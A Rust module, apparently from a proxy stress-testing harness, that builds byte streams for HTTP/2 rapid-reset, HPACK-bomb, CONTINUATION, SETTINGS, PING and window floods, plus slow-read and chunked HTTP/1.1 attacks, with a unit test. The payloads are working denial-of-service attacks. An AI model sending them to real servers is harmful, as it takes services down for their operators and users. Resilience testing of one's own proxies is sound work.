//! Builds the bytes that attackers send.

#[derive(Debug)]
pub struct Script {
    pub first: Vec<u8>,
    /// Bytes that are sent repeatedly until the proxy closes the connection. If empty,
    /// the connection is closed and opened again.
    pub endless: Vec<u8>,
    /// Responses are read; otherwise they stay in the socket, except for a few bytes.
    pub reads: bool,
}

/// Kinds of attacks on a proxy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Uploads in chunks of one byte.
    ChunkedUpload,
    /// Responses in chunks of one byte.
    ChunkedAnswer,
    /// HTTP/2 streams that are reset at once, below the burst that is allowed.
    RapidReset,
    /// A header in HPACK's table to which a request refers thousands of times.
    HpackBomb,
    /// Requests with as many headers as are taken.
    Headers,
    /// A header block that never ends.
    Continuations,
    Settings,
    Pings,
    Windows,
    /// Large responses that are read very slowly.
    SlowReaders,
}

/// Number of streams that one connection resets: fewer than 500, which is a usual limit.
const RESETS: u32 = 490;
/// Number of streams of one connection that unpack a bomb.
const BOMBS: u32 = 100;
/// Number of references to the large header in each request.
const BOMB_NAMES: usize = 8000;
const BOMB_BYTES: usize = 4000;
/// Number of repeated bytes that are sent at once.
const PIECE_BYTES: usize = 64 * 1024;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// GET, http, `/bench/100`, `www.example.com`, none of them kept in a table.
const REQUEST: &[u8] = b"\x82\x86\x04\x0a/bench/100\x01\x0fwww.example.com";
const DATA_WINDOW: u8 = 8;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

impl Attack {
    pub fn script(self) -> Script {
        let mut script = Script {
            first: Vec::new(),
            endless: Vec::new(),
            reads: true,
        };
        let first = &mut script.first;
        match self {
            Attack::ChunkedUpload => {
                *first = b"POST /bench/upload HTTP/1.1\r\nHost: www.example.com\r\n\
                           Transfer-Encoding: chunked\r\n\r\n"
                    .to_vec();
                script.endless = repeated(b"1\r\nx\r\n");
            }
            Attack::ChunkedAnswer => {
                *first = b"GET /bench/chunks HTTP/1.1\r\nHost: www.example.com\r\n\r\n".to_vec();
            }
            Attack::SlowReaders => {
                *first = b"GET /bench/endless HTTP/1.1\r\nHost: www.example.com\r\n\r\n".to_vec();
                script.reads = false;
            }
            Attack::Headers => script.endless = headers(),
            Attack::RapidReset => {
                begin(first);
                for stream in 0..RESETS {
                    let id = 2 * stream + 1;
                    frame(first, HEADERS, END_STREAM | END_HEADERS, id, REQUEST);
                    frame(first, RST_STREAM, 0, id, &8u32.to_be_bytes());
                }
            }
            Attack::HpackBomb => bomb(first),
            Attack::Continuations => {
                begin(first);
                frame(first, HEADERS, END_STREAM, 1, REQUEST);
                let mut piece = Vec::new();
                frame(&mut piece, CONTINUATION, 0, 1, b"\x00\x01a\x01b");
                script.endless = repeated(&piece);
            }
            Attack::Settings | Attack::Pings | Attack::Windows => {
                begin(first);
                let mut piece = Vec::new();
                match self {
                    Attack::Settings => frame(&mut piece, SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff"),
                    Attack::Pings => frame(&mut piece, PING, 0, 0, b"attacked"),
                    _ => frame(&mut piece, DATA_WINDOW, 0, 0, &1u32.to_be_bytes()),
                }
                script.endless = repeated(&piece);
            }
        }
        script
    }
}

fn repeated(piece: &[u8]) -> Vec<u8> {
    piece.repeat(PIECE_BYTES / piece.len().max(1))
}

fn begin(out: &mut Vec<u8>) {
    out.extend_from_slice(PREFACE);
    frame(out, SETTINGS, 0, 0, b"");
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Returns requests with ninety headers each, one after the other.
fn headers() -> Vec<u8> {
    let mut request = b"GET /bench/100 HTTP/1.1\r\nHost: www.example.com\r\n".to_vec();
    for n in 0..90 {
        request.extend_from_slice(format!("X-Header-{n}: {}\r\n", "v".repeat(100)).as_bytes());
    }
    request.extend_from_slice(b"\r\n");
    repeated(&request)
}

fn bomb(out: &mut Vec<u8>) {
    begin(out);
    // Adds a literal of 4,000 bytes to the table, with its length in three bytes.
    let mut block = REQUEST.to_vec();
    block.extend_from_slice(b"\x40\x01x\x7f");
    let rest = BOMB_BYTES - 127;
    block.extend_from_slice(&[(rest & 127) as u8 | 128, (rest >> 7) as u8]);
    block.resize(block.len() + BOMB_BYTES, b'v');
    frame(out, HEADERS, END_STREAM | END_HEADERS, 1, &block);
    let mut block = REQUEST.to_vec();
    block.resize(block.len() + BOMB_NAMES, 0xbe);
    for stream in 1..BOMBS {
        let id = 2 * stream + 1;
        frame(out, HEADERS, END_STREAM | END_HEADERS, id, &block);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_script_sends_something_and_frames_have_their_length() {
        for attack in [
            Attack::ChunkedUpload,
            Attack::ChunkedAnswer,
            Attack::RapidReset,
            Attack::HpackBomb,
            Attack::Headers,
            Attack::Continuations,
            Attack::Settings,
            Attack::Pings,
            Attack::Windows,
            Attack::SlowReaders,
        ] {
            let script = attack.script();
            assert!(!script.first.is_empty() || !script.endless.is_empty());
            let Some(mut frames) = script.first.strip_prefix(PREFACE) else {
                continue;
            };
            while let [a, b, c, rest @ ..] = frames {
                let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
                assert!(length <= 16_384, "{attack:?}");
                frames = &rest[6 + length..];
            }
            assert!(frames.is_empty(), "{attack:?}");
        }
    }
}
